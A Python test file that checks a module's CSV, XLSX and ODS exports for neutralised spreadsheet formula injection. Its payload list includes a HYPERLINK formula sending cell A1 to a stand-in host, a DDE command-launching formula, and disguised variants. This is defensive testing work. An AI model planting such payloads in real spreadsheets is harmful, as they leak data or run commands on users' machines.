"""No downloaded table makes a program run a formula, whatever someone typed: one module writes them all."""

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from releases.rules import tables
from releases.rules.tables import TableKind

ROOT = Path(__file__).resolve().parents[3]
# OWASP's list, what spreadsheets take for the same in full width, and each behind what they skip.
FORMULAS = [
    '=HYPERLINK("https://elsewhere.example/?"&A1,"see")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\x00=1+1",
    "\x1f=1+1",
]
STARTS = tuple("=+-@\t\r\n＝＋－＠")
INVISIBLE = " \u00a0\ufeff\u200b"


def written(kind):
    return tables.write_table(kind, ["words"], [[text] for text in FORMULAS], title="Words")


def test_in_csv_no_cell_begins_as_a_formula():
    rows = list(csv.reader(io.StringIO(written(TableKind.CSV).decode("utf-8-sig"))))[1:]
    assert len(rows) == len(FORMULAS)
    assert [cell for (cell,) in rows if cell.lstrip(INVISIBLE).startswith(STARTS)] == []


def test_in_xlsx_every_cell_is_text():
    sheet = load_workbook(io.BytesIO(written(TableKind.XLSX))).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert len(cells) == len(FORMULAS)
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr"}


def test_in_ods_no_cell_is_a_formula():
    content = zipfile.ZipFile(io.BytesIO(written(TableKind.ODS))).read("content.xml").decode()
    assert "table:formula" not in content
    assert content.count("HYPERLINK") == 1


def test_nothing_else_writes_tables():
    writers = re.compile(r"^\s*(import|from) (csv|openpyxl|odf|tablib|xlsxwriter)\b", re.MULTILINE)
    found = [
        path.relative_to(ROOT).as_posix()
        for room in ("releases", "breaches", "statsoffice")
        for path in (ROOT / room).rglob("*.py")
        if writers.search(path.read_text())
    ]
    # The compliance table is a text document, in which no cell has a formula.
    found.remove("breaches/compliance_files.py")
    assert {Path(path).parent.as_posix() for path in found} == {"releases/rules"}


@pytest.mark.parametrize("kind", list(TableKind))
def test_what_was_written_is_read_again_as_the_same_words(kind):
    lines = tables.read_table(written(kind), name="words")
    assert "HYPERLINK" in str(lines)
